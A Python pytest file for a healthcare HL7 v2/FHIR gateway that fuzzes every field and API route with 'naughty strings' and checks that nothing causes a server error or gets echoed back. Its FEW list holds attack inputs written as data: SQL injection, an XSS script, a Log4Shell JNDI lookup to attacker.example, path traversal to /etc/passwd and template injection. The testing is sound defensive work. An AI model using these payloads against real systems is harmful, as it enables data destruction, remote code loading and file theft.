"""Naughty strings in every string field: stored and read back byte for byte, or refused; never a 5xx, never a segment more."""

import json
from collections.abc import Callable
from functools import partial
from typing import Any
from urllib.parse import quote

import pytest
from sqlalchemy import select

from fhir_profiles.mappings import MAPPINGS
from fhir_profiles.peek import peek
from fhir_profiles.shapes import Channel, Envelope, Json
from fhir_profiles.translate import translate
from gateway.api.routes import ROUTES, Route
from gateway.steps.receive import receive
from gateway.store.schema import message as message_row
from tests.builders import (
    adt_a01,
    fhir_message,
)
from tests.fhir_profiles.fhir_message import golden_pairs as fhir_pairs
from tests.fhir_profiles.mappings import golden_pairs as hl7_pairs
from tests.gateway.api.conftest import Http
from tests.gateway.api.test_access import MATRIX, PUBLIC
from tests.gateway.receive.line import FHIR_CHANNEL, HL7_CHANNEL, arrival, make_parts, rows, segments
from tests.samples import samples_folder

HL7 = Channel(name="ehr", format="hl7v2")
FHIR = Channel(name="http-fhir", format="fhir")
EVERY = 24
"""Of the strings, each place meets one in so many; the next place the next ones."""
ESCAPES = str.maketrans({"\\": "\\E\\", "|": "\\F\\", "^": "\\S\\", "&": "\\T\\", "~": "\\R\\"})
FEW = ("", " ", "\u0000", "\r\rPID|2|", "\u000b\u001c\r", "\\.br\\", "\\X0D\\", '"; DROP TABLE message; --', "<script>alert(1)</script>",
       "${jndi:ldap://attacker.example/a}", "../../etc/passwd", "\u202etest\u202c", "\ufeff", "\U0001f600" * 50, "A" * 5_000, "{{7*7}}", "NaN")  # fmt: skip


def escaped(text: str) -> str:
    """As a careful sender would: delimiters by their letters, control characters by their numbers."""
    return "".join(
        f"\\X{each.encode().hex().upper()}\\" if ord(each) < 32 or ord(each) == 127 else each
        for each in text.translate(ESCAPES)
    )


def hl7(text: str, message_id: str) -> bytes:
    """Every field of text of an admission is this text."""
    body = adt_a01(message_id=message_id).decode()
    for field in ("Birkett-Test", "Bailey", "1 Example Street", "Exampleton", "Example Practice"):
        assert field in body
        body = body.replace(field, escaped(text))
    return body.encode("utf-8", "surrogatepass")


def leaves(value: Any, path: tuple[str | int, ...] = ()) -> list[tuple[str | int, ...]]:
    """The place of every string."""
    if isinstance(value, dict):
        return [found for name, each in value.items() for found in leaves(each, (*path, name))]
    if isinstance(value, list):
        return [found for number, each in enumerate(value) for found in leaves(each, (*path, number))]
    return [path] if isinstance(value, str) else []


def put(document: Json, place: tuple[str | int, ...], text: str) -> None:
    at: Any = document
    for step in place[:-1]:
        at = at[step]
    at[place[-1]] = text


RESOURCES = (
    {
        "resourceType": "CarePlan",
        "id": "plan",
        "status": "active",
        "intent": "plan",
        "title": "Substance misuse care plan",
        "description": "a description",
        "subject": {"reference": "Patient/patient", "display": "a display"},
        "note": [{"text": "a note", "authorString": "an author"}],
        "goal": [{"display": "a goal"}],
        "identifier": [{"system": "https://example.org/id", "value": "1"}],
    },
)
FREE = {"title", "description", "display", "text", "authorString", "family", "given", "line", "city", "value", "name"}


def is_free(place: tuple[str | int, ...]) -> bool:
    """Free text that is neither who sent it nor whom it is about."""
    names = [step for step in place if isinstance(step, str)]
    return names[-1] in FREE and "identifier" not in names and "source" not in names


def fhir(text: str | None, message_id: str) -> bytes:
    document = json.loads(fhir_message(resources=RESOURCES, message_id=message_id))
    if text is not None:
        for place in leaves(document):
            if is_free(place):
                put(document, place, text)
    return json.dumps(document, ensure_ascii=False).encode("utf-8", "surrogatepass")


def without_outer_blanks(text: str) -> str:
    """What FHIR can hold of a text of HL7 v2: no control characters, no white space around it."""
    return "".join(each for each in text if ord(each) >= 32 or each in "\t\r\n").strip()


def stored(http: Http) -> bytes:
    """The bytes of the last message that was kept."""
    with http.line.store.read() as c:
        return http.line.parts.keys.unseal(c, rows(http.line.parts)[-1].body_id)


def naughty() -> list[str]:
    found = json.loads((samples_folder() / "naughty-strings" / "blns.json").read_text("utf-8"))
    assert len(found) >= 500
    return [*found, *FEW]


@pytest.mark.slow(seconds=40)
@pytest.mark.samples
async def test_in_every_text_of_hl7_v2(http: Http) -> None:
    """Over HTTP; then what was understood is what was sent, unless the message is held or the value stands for nothing."""
    bearer = http.bearer("zfg-ehr")
    read_back = 0
    for number, text in enumerate(naughty()):
        body = hl7(text, f"N-{number}")
        status, _, answer = await http.ask(
            "POST", "/hl7v2", data=body, headers={"Content-Type": "text/plain", **bearer}
        )
        assert status < 500, text
        assert set(segments(answer)) <= {"MSH", "MSA", "ERR"}, text
        if status != 200:
            continue
        assert stored(http) == body, text
        understood = translate(HL7, body)
        patient = next(
            (
                each["resource"]
                for each in understood.bundle.get("entry", [])
                if each["resource"]["resourceType"] == "Patient"
            ),
            None,
        )
        if understood.hold is None and patient is not None and "name" in patient and "family" in patient["name"][0]:
            assert patient["name"][0]["family"] in (text, without_outer_blanks(text)), text
            read_back += 1
    assert read_back > 400


@pytest.mark.slow(seconds=40)
@pytest.mark.samples
async def test_in_every_text_of_fhir(http: Http) -> None:
    bearer = http.bearer("zfg-ehr")
    read_back = 0
    for number, text in enumerate(naughty()):
        body = fhir(text, f"N-{number}")
        status, _, _ = await http.ask(
            "POST",
            "/fhir/$process-message?async=true",
            data=body,
            headers={"Content-Type": "application/fhir+json", **bearer},
        )
        assert status < 500, text
        if status != 202:
            continue
        assert stored(http) == body, text
        understood = translate(FHIR, body)
        if understood.hold is None:
            patient = next(
                each["resource"] for each in understood.bundle["entry"] if each["resource"]["resourceType"] == "Patient"
            )
            assert patient["name"][0]["family"] == text
            read_back += 1
    assert read_back > 400


@pytest.mark.parametrize("text", FEW, ids=lambda text: repr(text)[:20])
def test_in_every_single_string_of_fhir_nothing_fails(text: str) -> None:
    """Each string of the message by itself, ids, codes, references and addresses too: refused, held or taken, never an exception."""
    document = json.loads(fhir(None, "N-1"))
    for place in leaves(document):
        changed = json.loads(json.dumps(document))
        put(changed, place, text)
        body = json.dumps(changed, ensure_ascii=False).encode()
        if isinstance(peek(FHIR, body), Envelope):
            translate(FHIR, body)


@pytest.mark.parametrize("text", FEW, ids=lambda text: repr(text)[:20])
def test_in_every_single_field_of_hl7_nothing_fails(text: str) -> None:
    """Raw, as a careless sender would write it: what it breaks is refused or held."""
    lines = adt_a01().split(b"\r")[:-1]
    for line, segment in enumerate(lines):
        fields = segment.split(b"|")
        for field in range(1, len(fields)):
            changed = [*lines]
            changed[line] = b"|".join([*fields[:field], text.encode(), *fields[field + 1 :]])
            body = b"\r".join(changed) + b"\r"
            if isinstance(peek(HL7, body), Envelope):
                translate(HL7, body)


def with_string(document: Json, place: tuple[str | int, ...], text: str, message_id: str) -> bytes:
    changed = json.loads(json.dumps(document))
    put(changed, place, text)
    return json.dumps(changed, ensure_ascii=False).replace(AN_ID, message_id).encode("utf-8", "surrogatepass")


def with_field(body: bytes, line: int, field: int, text: str, message_id: str) -> bytes:
    lines = body.decode().split("\r")
    fields = lines[line].split("|")
    fields[field] = escaped(text)
    lines[line] = "|".join(fields)
    return "\r".join(lines).replace(AN_ID, message_id).encode("utf-8", "surrogatepass")


AN_ID = "AN-ID"


async def one_by_one(places: list[tuple[str, Callable[[str, str], bytes]]], every: int) -> int:
    """Each place meets one string in so many and each string many places: kept byte for byte, or refused, and what is kept has a meaning or waits for a
    person. How many were kept.
    """
    texts, kept, met = naughty(), 0, set[str]()
    parts = make_parts()
    for number, (name, message) in enumerate(places):
        for text in texts[number % every :: every]:
            body = message(text, f"O-{number}-{texts.index(text)}")
            fhir = body.startswith(b"{")
            received = await receive(parts, arrival(body, channel=FHIR_CHANNEL if fhir else HL7_CHANNEL))
            met.add(text)
            assert received.answer.status < 500, (name, text)
            if not received.accepted:
                continue
            assert not received.duplicate, (name, text)
            kept += 1
            with parts.store.read() as c:
                body_id = c.execute(
                    select(message_row.c.body_id).where(message_row.c.id == received.message_id)
                ).scalar_one()
                assert parts.keys.unseal(c, body_id) == body, (name, text)
            translate(FHIR if fhir else HL7, body)
    parts.store.close()
    assert met == set(texts)
    return kept


def every_field() -> dict[str, Callable[[str, str], bytes]]:
    """Each field of each segment of the golden pairs of HL7 v2, header, codes, times and numbers too: the first message that has it, from a sender
    that is known.
    """
    found: dict[str, Callable[[str, str], bytes]] = {}
    for path in hl7_pairs.sources():
        body = path.read_bytes().decode().replace("LEI", "ZFG")
        lines = body.split("\r")
        header = lines[0].split("|")
        header[9] = AN_ID
        lines[0] = "|".join(header)
        for line, segment in enumerate(lines):
            for field in range(1, segment.count("|") + 1):
                if (segment[:3], field) != ("MSH", 1):
                    found.setdefault(
                        f"{segment[:3]}-{field}", partial(with_field, "\r".join(lines).encode(), line, field)
                    )
    return found


def every_string() -> dict[str, Callable[[str, str], bytes]]:
    """Each string of each type of resource of the golden pairs of FHIR, ids, codes, times and references too, where it first stands."""
    found: dict[str, Callable[[str, str], bytes]] = {}
    for path in sorted(fhir_pairs.FOLDER.glob("*.message.json")):
        document = json.loads(path.read_text("utf-8")) | {"id": AN_ID}
        for place in leaves(document):
            at, kind = document, document["resourceType"]
            for step in place[:-1]:
                at = at[step]
                kind = at.get("resourceType", kind) if isinstance(at, dict) else kind
            names = ".".join(step for step in place if isinstance(step, str)).rpartition("resource.")[2]
            found.setdefault(f"{kind}.{names}", partial(with_string, document, place))
    return found


@pytest.mark.slow(seconds=30)
@pytest.mark.samples
@pytest.mark.parametrize(("places", "least"), [(every_field, 500), (every_string, 300)])
async def test_one_at_a_time_in_every_string_of_whatever_is_read(
    places: Callable[[], dict[str, Callable[[str, str], bytes]]], least: int
) -> None:
    """All that the line takes of every event and type of resource, not only free text."""
    found = list(places().items())
    assert len(found) > least
    assert await one_by_one(found, 2 * EVERY) > len(found)


def test_every_event_that_is_read_has_its_places() -> None:
    events = {peek(HL7, path.read_bytes()).kind for path in hl7_pairs.sources()}
    assert {event for event in MAPPINGS if "^" in event} <= events


ASKED = [route for route in ROUTES if (route.method, route.path) in {*MATRIX, *PUBLIC}]


def request_of(http: Http, route: Route) -> tuple[str, dict[str, Any]]:
    """One that would be served."""
    path, more, allowed, *_ = MATRIX.get((route.method, route.path), (route.path, {}, (), 0, ()))
    bearer = http.bearer(allowed[0]) if allowed else {}
    return path, {**more, "headers": {**more.get("headers", {}), **bearer}}


def test_every_route_is_asked() -> None:
    assert len(ASKED) == len(ROUTES)


@pytest.mark.slow(seconds=20)
@pytest.mark.parametrize("route", ASKED, ids=lambda route: f"{route.method} {route.path}")
async def test_in_every_text_that_a_route_takes(http: Http, route: Route) -> None:
    """In its address, its parameters and headers, and each string of its body: never a 5xx, and nothing of it in an error's words."""
    path, more = request_of(http, route)
    asked: list[tuple[str, dict[str, Any]]] = []
    for text in FEW:
        said = quote(text, safe="")
        asked += [(f"{path}?{name}={said}", more) for name in (*route.parameters, said or "x")]
        if "{id}" in route.path:
            asked.append((route.path.replace("{id}", said or "x"), more))
        visible = text.encode("ascii", "ignore").decode().translate(dict.fromkeys(range(32)))
        for name in ("Accept", "Prefer", "Idempotency-Key", "X-Request-ID", "X-Correlation-ID"):
            asked.append((path, {**more, "headers": {**more["headers"], name: visible}}))
    body = more.get("data", b"")
    if body.startswith(b"{"):
        for number, place in enumerate(leaves(json.loads(body))):
            for text in FEW[number % 4 :: 4]:
                document = json.loads(body)
                put(document, place, text)
                asked.append((path, {**more, "data": json.dumps(document).encode()}))
    for where, what in asked:
        status, _, answer = await http.ask(route.method, where, **what)
        assert status < 500, (where, what.get("data", b"")[:300])
        assert status < 400 or not any(text in answer.decode() for text in FEW if len(text) > 4), where
